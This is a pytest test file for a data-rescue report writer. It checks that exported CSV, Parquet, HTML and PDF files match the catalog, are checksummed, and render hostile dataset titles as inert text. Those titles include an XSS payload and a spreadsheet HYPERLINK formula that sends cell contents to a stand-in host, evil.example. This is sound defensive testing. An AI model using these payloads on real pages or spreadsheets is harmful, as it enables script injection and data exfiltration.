"""Reports on a rescue: all files of one moment, equal to the catalog, whole or absent, and nothing in them acts."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import psutil
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from shelter_pipeline.catalog.connection import Catalog
from shelter_pipeline.domain.errors import SetupError, TransientError
from shelter_pipeline.operations.kept_reports import find_report, list_reports, open_file, store_report
from shelter_pipeline.operations.print_pdf import print_pdf
from shelter_pipeline.operations.report_columns import TABLES
from shelter_pipeline.operations.report_figures import Scope, scope_of
from shelter_pipeline.operations.rescue_report import FORMATS, WrittenReport, formats_of, write_report
from shelter_pipeline.operations.scrub_store import scrub_store
from shelter_pipeline.operations.workplace import Workplace
from shelter_pipeline.vault.reports import KeptFile
from shelter_pipeline_tests.api.shelves import FAILED, HELD, a_shelf
from shelter_pipeline_tests.support.browser import find_chromium, open_page
from shelter_pipeline_tests.support.records import a_dataset, a_resource
from shelter_pipeline_tests.support.workplaces import a_workplace

SCRIPT = "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title = 'taken over'\">"
TURNED = "\u202egnirts \u2066isolated"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'
TITLES = (SCRIPT, TURNED, FORMULA, "'=1+1", "w" * 10_000, 'line\r\nbreak, "quoted"')
NO_PDF = tuple(name for name in FORMATS if name != "pdf")


@pytest.fixture
def workplace(catalog: Catalog, catalog_url: str, tmp_path: Path) -> Iterator[Workplace]:
    """A shelf with hostile titles and a loss whose evidence is hostile."""
    hostile = [
        a_dataset(f"h{number}", a_resource(f"https://data.example.gov/h{number}.csv"), title=title)
        for number, title in enumerate(TITLES)
    ]
    a_shelf(catalog, *hostile)
    with catalog.begin() as connection:
        connection.execute(
            sa.text(
                "INSERT INTO loss (portal_id, asset_id, kind, state, decided_at, evidence)"
                " SELECT 1, id, 'link-dead', 'confirmed', now(), CAST(:evidence AS jsonb) FROM asset WHERE url = :url"
            ),
            {
                "url": FAILED,
                "evidence": json.dumps({"reason": "not-found", "said": SCRIPT, "final_url": SCRIPT}),
            },
        )
    with a_workplace(catalog_url, tmp_path / "store") as opened:
        yield opened


def written(workplace: Workplace, parent: Path, *formats: str, scope: Scope | None = None) -> WrittenReport:
    scope = scope or scope_of(workplace.catalog, (), None)
    return write_report(workplace, scope, parent=parent, formats=formats or NO_PDF)


def rows(catalog: Catalog, query: str) -> list[dict[str, Any]]:
    with catalog.begin() as connection:
        return [dict(row) for row in connection.execute(sa.text(query)).mappings()]


def test_the_files_are_what_their_sums_and_the_package_say(workplace: Workplace, tmp_path: Path) -> None:
    report = written(workplace, tmp_path / "reports")

    folder = report.folder
    there = {path.name: path.read_bytes() for path in folder.iterdir()}
    assert {file.name for file in report.files} == there.keys()
    for file in report.files:
        assert (file.bytes, file.sha256) == (
            len(there[file.name]),
            hashlib.sha256(there[file.name]).hexdigest(),
        )
    checked = subprocess.run(
        ["sha256sum", "--check", "SHA256SUMS"], cwd=folder, capture_output=True, check=True
    )
    assert checked.stdout.count(b"OK") == len(there) - 1
    package = json.loads(there["datapackage.json"])
    assert {resource["path"] for resource in package["resources"]} == there.keys() - {
        "datapackage.json",
        "SHA256SUMS",
    }
    readme = there["README.txt"].decode()
    for table in TABLES:
        (described,) = (each for each in package["resources"] if each["path"] == f"{table.name}.csv")
        head = there[f"{table.name}.csv"].partition(b"\r\n")[0].decode().split(",")
        assert [field["name"] for field in described["schema"]["fields"]] == head
        assert all(f"  {column.name} ({column.kind}): {column.says}" in readme for column in table.columns)


def test_tables_read_back_are_the_catalog(workplace: Workplace, tmp_path: Path) -> None:
    folder = written(workplace, tmp_path).folder

    files = pd.read_parquet(folder / "files.parquet")
    expected = rows(
        workplace.catalog, "SELECT id, url, state, reason, sha256, size, found_at FROM asset ORDER BY id"
    )
    assert list(files["url"]) == [row["url"] for row in expected]
    for name in ("state", "reason", "sha256", "size"):
        assert [None if pd.isna(cell) else cell for cell in files[name]] == [row[name] for row in expected]
    assert list(files["found_at"]) == [pd.Timestamp(row["found_at"]) for row in expected]
    assert str(files["found_at"].dtype).endswith("UTC]")
    again = pd.read_csv(folder / "files.csv", parse_dates=["found_at"])
    pd.testing.assert_frame_equal(
        again[["file_id", "url", "state", "found_at", "copies"]],
        files[["file_id", "url", "state", "found_at", "copies"]],
        check_dtype=False,
    )
    metadata = pq.ParquetFile(folder / "files.parquet").metadata
    assert metadata.row_group(0).column(1).compression == "ZSTD"
    organizations = pd.read_parquet(folder / "organizations.parquet").set_index("organization")
    assert organizations.loc["noaa-gov", ["expected_files", "held_files", "held_bytes"]].tolist() == [
        2,
        1,
        1234,
    ]
    days = pd.read_csv(folder / "captures-by-day.csv")
    assert days[["captures", "stored", "permanent", "new_bytes"]].sum().tolist() == [2, 1, 1, 1234]
    (loss,) = pd.read_parquet(folder / "losses.parquet").to_dict("records")
    assert (loss["url"], loss["state"], json.loads(loss["evidence"])["said"]) == (FAILED, "confirmed", SCRIPT)


def test_hostile_titles_are_text_everywhere(workplace: Workplace, tmp_path: Path) -> None:
    folder = written(workplace, tmp_path).folder

    titles = list(pd.read_parquet(folder / "datasets.parquet")["title"])
    assert set(TITLES) <= set(titles)
    with (folder / "datasets.csv").open(encoding="utf-8", newline="") as file:
        cells = [row["title"] for row in csv.DictReader(file)]
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r"]
    restored = [cell[1:] if re.match(r"'+[=+\-@\t\r\n]", cell) else cell for cell in cells]
    assert restored == titles
    html = (folder / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html
    assert "\u202e" not in html
    assert "The server leads on to" in html
    assert "&lt;script&gt;" in html  # the evidence of the loss, in sentences


def test_the_page_shows_its_style_and_nothing_in_it_runs(workplace: Workplace, tmp_path: Path) -> None:
    folder = written(workplace, tmp_path, "html").folder
    said: list[str] = []

    with open_page(width=360) as page:
        page.on("console", lambda message: said.append(message.text))
        page.on(
            "request", lambda request: said.append(request.url) if request.url.startswith("http") else None
        )
        page.goto((folder / "report.html").as_uri())
        title, width = page.title(), page.evaluate("document.documentElement.scrollWidth")
        weight = page.evaluate("getComputedStyle(document.querySelector('.tile dd')).fontWeight")

    assert said == []
    assert title.startswith("Rescue report: all organizations")
    assert width == 360
    assert weight == "650"


def test_a_report_is_printed_by_a_browser(workplace: Workplace, tmp_path: Path) -> None:
    if find_chromium() is None:
        pytest.skip("no Chromium is installed (Debian: apt-get install chromium)")

    report = written(workplace, tmp_path, "pdf")

    assert {file.name for file in report.files} == {"report.pdf", "README.txt", "SHA256SUMS"}
    pdf = (report.folder / "report.pdf").read_bytes()
    assert pdf.startswith(b"%PDF-")
    assert len(re.findall(rb"/Type /Page\b", pdf)) > 1
    assert b"/StructTreeRoot" in pdf  # tagged, so its text can be read aloud and taken out
    assert b"/ToUnicode" in pdf


@pytest.mark.parametrize(
    ("browser", "error", "words"),
    [
        (
            "/nowhere/chromium",
            SetupError,
            "SHELTER_BROWSER names '/nowhere/chromium', which is no program here",
        ),
        ("false", SetupError, "printed no PDF"),
        ("a browser that never ends", TransientError, "within 0.5 seconds"),
    ],
)
def test_without_a_browser_that_prints_there_is_no_half_report(
    workplace: Workplace, tmp_path: Path, browser: str, error: type[Exception], words: str
) -> None:
    if browser.startswith("a browser"):
        endless = tmp_path / "endless"
        endless.write_text("#!/bin/sh\nsleep 600\n")
        endless.chmod(0o755)
        browser = str(endless)
    settings = workplace.settings.model_copy(update={"browser": browser, "report_print_seconds": 0.5})
    place = Workplace(
        **{**{name: getattr(workplace, name) for name in Workplace.__slots__}, "settings": settings}
    )

    with pytest.raises(error, match=re.escape(words)):
        written(place, tmp_path / "reports", "html", "pdf")

    assert not (tmp_path / "reports").exists() or not list((tmp_path / "reports").iterdir())


def test_a_browser_is_told_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    browser = tmp_path / "browser"
    browser.write_text(f"#!/bin/sh\nenv > {tmp_path}/told\n")
    browser.chmod(0o755)
    for name in ("SHELTER_DATABASE_URL", "AWS_SECRET_ACCESS_KEY", "PGPASSWORD"):
        monkeypatch.setenv(name, "not to be told")

    with pytest.raises(SetupError, match="printed no PDF"):
        print_pdf(str(browser), tmp_path / "report.html", tmp_path / "report.pdf", seconds=20)

    told = (tmp_path / "told").read_text()
    assert "PATH=" in told
    assert "not to be told" not in told


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux ends what a killed process has started")
@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL])
def test_a_browser_does_not_outlive_who_is_killed_while_it_prints(
    tmp_path: Path, how: signal.Signals
) -> None:
    browser, told = tmp_path / "browser", tmp_path / "pid"
    browser.write_text(f"#!/bin/sh\necho $$ > {told}.new && mv {told}.new {told} && exec sleep 600\n")
    browser.chmod(0o755)
    printing = (
        "import pathlib, sys; from shelter_pipeline.operations.print_pdf import print_pdf;"
        "print_pdf(sys.argv[1], pathlib.Path('page.html'), pathlib.Path('page.pdf'), seconds=600)"
    )
    with subprocess.Popen([sys.executable, "-c", printing, str(browser)]) as printer:
        until(told.exists)
        printer.send_signal(how)
    browsing = int(told.read_text())

    until(lambda: not psutil.pid_exists(browsing) or psutil.Process(browsing).status() == "zombie")


def until(question: Callable[[], bool]) -> None:
    end = time.monotonic() + 20
    while not question():
        assert time.monotonic() < end
        time.sleep(0.02)


def test_a_report_on_some_organizations_tells_of_them_alone(workplace: Workplace, tmp_path: Path) -> None:
    scope = scope_of(workplace.catalog, ["noaa-gov"], None)

    report = written(workplace, tmp_path, "json", "csv", scope=scope)

    assert report.folder.name.endswith("-noaa-gov")
    figures = json.loads((report.folder / "report.json").read_text())
    assert figures["format"] == "shelter-report/1"
    assert (figures["totals"]["files"], figures["totals"]["held_files"], figures["totals"]["datasets"]) == (
        2,
        1,
        2,
    )
    assert [row["organization"] for row in figures["organizations"]] == ["noaa-gov"]
    assert figures["missing_by_reason"][0]["sentence"] == "The server has nothing at this address (404)."
    assert set(pd.read_csv(report.folder / "files.csv")["url"]) == {HELD, FAILED}
    whole = json.loads((written(workplace, tmp_path, "json").folder / "report.json").read_text())
    assert whole["totals"]["files"] == 3 + len(TITLES)
    with pytest.raises(SetupError, match="no organization 'nasa'"):
        scope_of(workplace.catalog, ["nasa"], None)
    with pytest.raises(SetupError, match="no portal 'nowhere'"):
        scope_of(workplace.catalog, [], "nowhere")


def test_a_second_report_of_the_day_leaves_the_first_one_alone(workplace: Workplace, tmp_path: Path) -> None:
    first = written(workplace, tmp_path, "json")
    before = (first.folder / "report.json").read_bytes()

    second = written(workplace, tmp_path, "json")

    assert second.folder.name == f"{first.folder.name}-2"
    assert (first.folder / "report.json").read_bytes() == before


def test_an_empty_catalog_has_a_report_that_says_so(catalog_url: str, tmp_path: Path) -> None:
    with a_workplace(catalog_url, tmp_path / "store") as empty:
        report = written(empty, tmp_path)

    assert report.summary.startswith("No dataset is known yet")
    assert len(pd.read_parquet(report.folder / "files.parquet")) == 0


def test_a_writer_that_is_killed_leaves_nothing_that_looks_like_a_report(
    workplace: Workplace, catalog: Catalog, tmp_path: Path
) -> None:
    url = workplace.settings.database_url
    assert url is not None
    with catalog.begin() as blocked:  # the writer waits for this table, with its folder begun
        blocked.execute(sa.text("LOCK TABLE loss IN ACCESS EXCLUSIVE MODE"))
        process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "shelter_pipeline.cli",
                "report",
                "--format",
                "csv",
                "--to",
                str(tmp_path / "out"),
            ],
            env=os.environ
            | {
                "SHELTER_DATABASE_URL": url.get_secret_value(),
                "SHELTER_DAGSTER_DATABASE_URL": url.get_secret_value(),
            }
            | {"SHELTER_HOME": str(tmp_path / "home")},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        until = time.monotonic() + 60
        while not list((tmp_path / "out").glob(".shelter-incomplete-*")):
            assert time.monotonic() < until
            assert process.poll() is None
            time.sleep(0.05)
        process.send_signal(signal.SIGKILL)
        process.wait()

    assert not list((tmp_path / "out").glob("shelter-report*"))
    assert written(workplace, tmp_path / "out", "json").folder.is_dir()


def test_the_weekly_report_is_kept_in_the_store_and_no_scrub_takes_it_for_a_stranger(
    workplace: Workplace,
) -> None:
    report = store_report(workplace)

    # Another one, whose writer died before its index.
    workplace.store.put_document("reports/2026-01-01T000000Z/report.html", b"half")
    assert list_reports(workplace) == [report]
    assert find_report(workplace, "2026-01-01T000000Z") is None
    assert find_report(workplace, "../../etc") is None
    assert {"report.html", "report.json", "files.parquet"} <= {file.name for file in report.files}
    scrubbed = scrub_store(workplace.settings.store, workplace.settings)
    assert not scrubbed["extra"]
    assert not scrubbed["damaged"]
    sums = {file.name: file.sha256 for file in report.files}
    with open_file(workplace, report, KeptFile("report.json", 0, "")) as body:
        assert hashlib.sha256(body.read()).hexdigest() == sums["report.json"]


def test_formats_are_named_by_commas_and_others_are_refused_with_the_known_ones() -> None:
    assert formats_of("parquet, HTML") == ("html", "parquet")
    with pytest.raises(
        SetupError, match="there is no format docx; choose among html, pdf, json, csv, parquet"
    ):
        formats_of("html,docx")
